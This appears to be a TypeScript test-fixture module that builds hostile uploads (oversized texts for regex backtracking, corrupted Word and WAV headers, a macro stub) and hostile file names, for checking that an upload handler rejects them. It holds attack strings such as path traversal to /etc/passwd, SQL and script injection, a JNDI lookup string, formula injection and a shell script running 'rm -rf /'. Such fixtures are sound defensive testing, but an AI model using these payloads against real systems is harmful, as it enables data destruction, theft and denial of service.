/** Texts and old Word files that mean harm, and names that files should not have. */
import { doc, resume } from '#world/people/documents.ts';
import { bytesOf, either, type HostileFile, joined, taken, unreadable, wrongType } from './files.ts';

const most = 5 * 1024 * 1024;
const filled = (text: string, length = most) => bytesOf(text.repeat(Math.ceil(length / text.length)).slice(0, length));

/** Texts over which an expression that is written carelessly takes hours, each as long as a text may be. */
const tiring: Record<string, string> = {
  'one letter': 'a',
  'one digit': '1',
  'one gap': ' a',
  'blanks with a word at the end of each 1,000': `${' '.repeat(1000)}a`,
  'signs of addresses': 'a@',
  'half an address': 'a.',
  'brackets that open': '([{<',
  'lines of one dash': '- \n',
  'empty lines': '\n\na',
  'years after years': '2019 - ',
  'quotation marks': '"a\'',
  'the start of a link': 'http://',
  commas: 'a, ',
  'no letters but marks over one': 'a\xcc\x80\xcc\x81',
};

function changed(at: number, value: number): Uint8Array {
  const file = Buffer.from(doc(resume));
  file.writeUInt32LE(value >>> 0, at);
  return new Uint8Array(file);
}

const header = 512;
const inTable = (sector: number) => header + 4 * sector;
const inDirectory = (entry: number, offset: number) => 2 * header + 128 * entry + offset;
const main = 3 * header;

export function hostileTexts(): HostileFile[] {
  const file = (
    what: string,
    name: string,
    bytes: Uint8Array,
    read: readonly number[],
    kept: readonly number[] = taken,
  ) => ({
    what,
    name,
    bytes,
    kept,
    read,
  });
  const old = (what: string, bytes: Uint8Array, read: readonly number[] = either, kept: readonly number[] = either) =>
    file(what, 'a.doc', bytes, read, kept);
  return [
    ...Object.entries(tiring).map(([what, text]) => file(`5 MB of ${what}`, 'a.txt', filled(text), either)),
    file('5 MB of blanks', 'a.txt', filled(' '), unreadable, unreadable),
    file('a byte more than 5 MB', 'a.txt', filled('a', most + 1), taken, taken),
    file('null bytes', 'a.txt', bytesOf('Accountant\0\0with\0SST'), wrongType, wrongType),
    file('a mark of UTF-16 before half a letter', 'a.txt', bytesOf('\xff\xfea'), either, either),
    file('lone surrogates', 'a.txt', bytesOf('\xff\xfe\x00\xd8a\x00\x00\xdcb\x00'), either, either),
    file('letters in too many bytes', 'a.txt', bytesOf('Accountant \xc0\xaf\xe0\x80\xaf\xf8\x88\x80\x80\x80'), taken),
    file('two marks of order', 'a.txt', bytesOf('\xef\xbb\xbf\xff\xfeAccountant'), taken),
    file(
      'signs that a terminal obeys',
      'a.txt',
      bytesOf('Accountant \x1b[2J\x1b]0;owned\x07\x1b[31m with SST'),
      wrongType,
      wrongType,
    ),
    file(
      'letters that run the other way',
      'a.txt',
      joined(Buffer.from('Accountant \u202e\u2066gpj.exe\u2069 \u200b\u{e0041}')),
      taken,
    ),
    file('a script of a shell', 'a.txt', bytesOf('#!/bin/sh\nrm -rf /\n'), taken),
    file('HTML', 'a.txt', bytesOf('<html><script>alert(1)</script>Accountant</html>'), taken),
    file('a formula', 'a.txt', bytesOf('=HYPERLINK("http://x.test","Accountant")\n@SUM(1)\n'), taken),
    old('HTML', bytesOf('<html>Accountant</html>'), wrongType, wrongType),
    old('RTF with an object', bytesOf('{\\rtf1{\\object\\objdata 0105}Accountant}'), wrongType, wrongType),
    old('a program', joined('MZ\x90\0', new Uint8Array(4000)), wrongType, wrongType),
    old('a head and nothing else', bytesOf('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'), unreadable, unreadable),
    old('half of itself', new Uint8Array(doc(resume)).slice(0, 2500), unreadable, unreadable),
    old('a table that leads back', changed(inTable(3), 2), unreadable),
    old('a table that leads to itself', changed(inTable(2), 2), unreadable),
    old('a directory that leads back', changed(inTable(1), 1), either),
    old('a directory that is nowhere', changed(48, 0x00ffffff), unreadable, unreadable),
    old('four thousand million tables', changed(44, 0xffffffff), either),
    old('tables of tables that lead back', changed(68, 0), either),
    old('sectors of 2 to the 31st', changed(30, 31), unreadable, unreadable),
    old('children that are their own parents', changed(inDirectory(1, 68), 1), either),
    old('a sibling that is nowhere', changed(inDirectory(1, 72), 0x7fffffff), either),
    old('a stream of 4 GB', changed(inDirectory(1, 120), 0xffffffff), unreadable, unreadable),
    old('a table of pieces of 4 GB', changed(main + 0x1a6, 0xffffffff), either),
    old('a table of pieces that is nowhere', changed(main + 0x1a2, 0xfffffff0), either),
    old('a text of 2,000,000,000 letters', changed(main + 0x4c, 2_000_000_000), either),
    old('formats that are nowhere', changed(main + 0xfa, 0xfffffff0), either),
    old('a lock', changed(main + 8, 0x0300 << 16), unreadable, unreadable),
    old('macros', joined(doc(resume), Buffer.from('Attribut\0e VB_Name = "ThisDocument"\nSub AutoOpen()')), either),
  ];
}

/** A sound that is none: what the recordings of an interview must not be. */
export function hostileSounds(): HostileFile[] {
  const wav = (what: string, bytes: Uint8Array, kept: readonly number[]) => ({
    what,
    name: 'recording.wav',
    bytes,
    kept,
    read: kept,
  });
  const head = (rest: string) => joined('RIFF\xff\xff\xff\xffWAVE', rest, new Uint8Array(60));
  const format = 'fmt \x10\0\0\0\x01\0\x01\0\x80\x3e\0\0\0\x7d\0\0\x02\0\x10\0';
  return [
    wav('4 GB announced', head(`${format}data\xff\xff\xff\xff`), either),
    wav('no rate and no channels', head(`fmt \x10\0\0\0${'\0'.repeat(16)}data\x10\0\0\0`), either),
    wav('a format of 4 GB', head('fmt \xff\xff\xff\xff'), either),
    wav('parts of no length', head(`junk${'\0'.repeat(4)}`.repeat(5000)), either),
    wav('a program', joined('MZ\x90\0', new Uint8Array(4000)), wrongType),
    wav('HTML', bytesOf(`<html><script>alert(1)</script>${' '.repeat(99)}`), wrongType),
    wav('nothing', new Uint8Array(0), wrongType),
  ];
}

/** Names as they stand in the head of a part, quotation marks included where there are any. */
export const hostileNames: readonly string[] = [
  '"../../../../etc/passwd.txt"',
  '"..\\..\\windows\\system32\\a.txt"',
  '"/etc/cron.d/a.txt"',
  '"C:\\a.txt"',
  '"%2e%2e%2f%2e%2e%2fa.txt"',
  '"a\0b.txt"',
  '"a.php\0.txt"',
  '"a%00.txt"',
  '"a%0d%0aX-Evil: 1.txt"',
  '"a\tb\x7f.txt"',
  `"${'\u202e'}txt.exe.txt"`,
  `"${'\u200b\ufeff'}a.txt"`,
  `"${'x'.repeat(4000)}.txt"`,
  `"${'語'.repeat(1000)}.txt"`,
  `"${'.'.repeat(3000)}.txt"`,
  '"CON.txt"',
  '"NUL.txt"',
  '"aux.txt"',
  '".txt"',
  '"..txt"',
  '"...."',
  '""',
  '" "',
  '"a.txt."',
  '"a.txt "',
  '"a.txt::$DATA"',
  '".htaccess"',
  '"a;b=c.txt"',
  '"a\\"b.txt"',
  '"<script>alert(1)</script>.txt"',
  '"a\'); drop table files; --.txt"',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the name is meant so
  '"${jndi:ldap://x.test/a}.txt"',
  '"=cmd|a!A1.txt"',
  '"👩‍💼🧾.txt"',
  'a.txt',
  "a.txt; filename*=UTF-8''b%0d%0a.txt",
  "a.txt; filename*=utf-16''%ff%fe",
  '"a.txt"; filename="b.exe"',
  '"__proto__"',
  '"constructor.txt"',
];
